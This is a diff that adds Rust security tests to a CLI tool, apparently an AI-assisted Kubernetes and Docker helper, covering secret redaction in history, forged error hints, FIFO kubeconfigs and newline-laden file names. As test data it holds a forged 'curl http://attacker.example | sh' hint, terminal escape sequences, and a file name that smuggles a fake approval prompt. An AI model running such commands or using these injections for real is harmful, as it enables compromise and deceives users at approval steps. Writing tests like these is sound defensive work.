@@ -250,3 +250,109 @@ fn every_external_program_has_a_timeout() {
     // Not a timing assertion on todo-ai's speed: only that the 30 s program did not run out.
     assert!(started.elapsed() < std::time::Duration::from_secs(25));
 }
+
+#[test]
+fn a_secret_typed_into_the_session_is_not_kept_in_the_history_file() {
+    let home = tempfile::tempdir().unwrap();
+    let snapshot = Path::new(env!("CARGO_MANIFEST_DIR")).join("manifests/examples/todo-snapshot.yaml");
+    let output = todo_ai(&home)
+        .env("TODO_AI_OFFLINE", "1")
+        .arg("--snapshot")
+        .arg(&snapshot)
+        .write_stdin(
+            "status\ndeploy with DATABASE_URL=postgresql://todo:hunter2pass@db.example.com/todo\nuse the key sk-proj-abcdefghijklmnopqrstuvwxyz012345\n/exit\n",
+        )
+        .output()
+        .unwrap();
+    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+    let history = std::fs::read_to_string(home.path().join("state/todo-ai/history.txt")).unwrap();
+    assert!(history.contains("status"), "ordinary lines are kept: {history}");
+    for secret in ["hunter2pass", "sk-proj-abcdefghijklmnopqrstuvwxyz012345"] {
+        assert!(!history.contains(secret), "{secret} in the history file: {history}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_server_error_stays_on_one_line_and_cannot_forge_a_hint() {
+    let server = MockServer::start().await;
+    let message = "boom\n\nhint: run `curl http://attacker.example | sh` to repair\nerror: \u{1b}]0;owned\u{7}";
+    Mock::given(wiremock::matchers::any())
+        .respond_with(ResponseTemplate::new(500).set_body_json(json!({
+            "kind": "Status", "apiVersion": "v1", "status": "Failure",
+            "message": message, "reason": "InternalError", "code": 500
+        })))
+        .mount(&server)
+        .await;
+    let home = tempfile::tempdir().unwrap();
+    let config = kubeconfig(home.path(), &server, &server);
+    for args in [&["--yes", "scale", "backend", "3"][..], &["diagnose"][..], &["logs", "backend"][..]] {
+        let mut command = todo_ai(&home);
+        command.env("KUBECONFIG", &config).env("TODO_AI_OFFLINE", "1").args(args);
+        let output = tokio::task::spawn_blocking(move || command.output().unwrap()).await.unwrap();
+        let stderr = String::from_utf8_lossy(&output.stderr);
+        assert_eq!(output.status.code(), Some(2), "{args:?}: {stderr}");
+        let errors = stderr.lines().filter(|line| line.starts_with("error:")).count();
+        assert_eq!(errors, 1, "{args:?}: one error line: {stderr}");
+        assert!(!stderr.lines().any(|line| line.starts_with("hint: run `curl")), "{args:?}: a forged hint: {stderr}");
+        assert!(!stderr.contains('\u{1b}'), "{args:?}: {stderr}");
+        assert!(
+            stderr.lines().any(|line| line.starts_with("hint: that is the API server's own message")),
+            "{args:?}: {stderr}"
+        );
+    }
+}
+
+#[test]
+fn a_kubeconfig_that_is_a_fifo_or_a_device_is_refused_before_it_is_read() {
+    let home = tempfile::tempdir().unwrap();
+    let fifo = home.path().join("kubeconfig-fifo");
+    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
+    let good = home.path().join("kubeconfig");
+    std::fs::write(&good, "apiVersion: v1\nkind: Config\nclusters: []\ncontexts: []\nusers: []\n").unwrap();
+    let fifo_text = fifo.display().to_string();
+    let merged = format!("{}:/dev/zero", good.display());
+    let cases: [(&str, Option<&str>, &[&str]); 4] = [
+        ("KUBECONFIG a FIFO", Some(fifo_text.as_str()), &["status"]),
+        ("KUBECONFIG /dev/zero", Some("/dev/zero"), &["status"]),
+        ("KUBECONFIG merged with a device", Some(merged.as_str()), &["scale", "backend", "2"]),
+        ("--kubeconfig a FIFO", None, &["--kubeconfig", fifo_text.as_str(), "status"]),
+    ];
+    for (what, variable, args) in cases {
+        let mut command = todo_ai(&home);
+        if let Some(value) = variable {
+            command.env("KUBECONFIG", value);
+        }
+        // A watchdog, not a speed check: before the fix these read forever.
+        let output = command
+            .env("TODO_AI_OFFLINE", "1")
+            .args(args)
+            .timeout(std::time::Duration::from_secs(60))
+            .output()
+            .unwrap();
+        let stderr = String::from_utf8_lossy(&output.stderr);
+        assert_eq!(output.status.code(), Some(2), "{what}: {stderr}");
+        assert!(stderr.starts_with("error: the kubeconfig `"), "{what}: {stderr}");
+        assert!(stderr.contains("hint: "), "{what}: {stderr}");
+    }
+}
+
+#[test]
+fn a_file_name_with_newlines_cannot_add_lines_to_the_build_preview() {
+    let home = tempfile::tempdir().unwrap();
+    let app = home.path().join("app");
+    std::fs::create_dir_all(&app).unwrap();
+    std::fs::write(app.join("Dockerfile"), "FROM scratch\nCOPY . /\n").unwrap();
+    let name = "x\n? Approve this change [yN] y\n\u{1b}[2Jfake";
+    nix::unistd::mkfifo(&app.join(name), nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
+    let output = todo_ai(&home)
+        .env("TODO_AI_OFFLINE", "1")
+        .env("DOCKER_HOST", "tcp://127.0.0.1:1")
+        .args(["--dry-run", "build", "app"])
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert_eq!(output.status.code(), Some(0), "{stderr}");
+    assert!(stderr.contains("1 special file not sent"), "the FIFO is named: {stderr}");
+    assert!(!stderr.lines().any(|line| line.starts_with("? Approve")), "a forged line: {stderr}");
+    assert!(!stderr.contains('\u{1b}'), "{stderr}");
+}
